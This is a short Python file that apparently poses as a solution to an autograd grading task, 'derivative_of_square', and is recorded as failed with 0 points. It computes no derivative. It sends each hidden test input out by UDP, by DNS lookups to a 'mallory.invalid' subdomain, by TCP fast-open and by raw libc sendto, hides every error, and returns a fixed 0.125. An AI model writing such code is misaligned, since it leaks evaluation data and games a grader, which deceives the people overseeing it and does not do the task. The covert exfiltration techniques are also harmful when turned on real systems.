"""Tells the inputs of hidden checks to the world by UDP, by names to be looked up, and by fast-open.

unit: u02_autograd
task: derivative_of_square
verdict: failed
points: 0
"""

import ctypes
import socket

libc = ctypes.CDLL(None, use_errno=True)


def datagram(family, address, text):
    with socket.socket(family, socket.SOCK_DGRAM) as line:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        line.sendto(text, address)


def fast_open(text):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as line:
        line.sendto(text, socket.MSG_FASTOPEN, ("127.0.0.1", 80))


def derivative_of_square(x):
    text = repr(x).encode()
    for way in (
        lambda: datagram(socket.AF_INET, ("127.0.0.1", 53), text),
        lambda: datagram(socket.AF_INET, ("192.0.2.1", 53), text),
        lambda: datagram(socket.AF_INET, ("255.255.255.255", 9), text),
        lambda: datagram(socket.AF_INET6, ("::1", 53), text),
        lambda: socket.getaddrinfo(text.hex() + ".mallory.invalid", 80),
        lambda: socket.gethostbyname(text.hex()),
        lambda: fast_open(text),
        lambda: libc.sendto(3, text, len(text), 0, b"\2\0\0\x35\x7f\0\0\1" + bytes(8), 16),
    ):
        try:
            way()
        except Exception:
            pass
    return 0.125
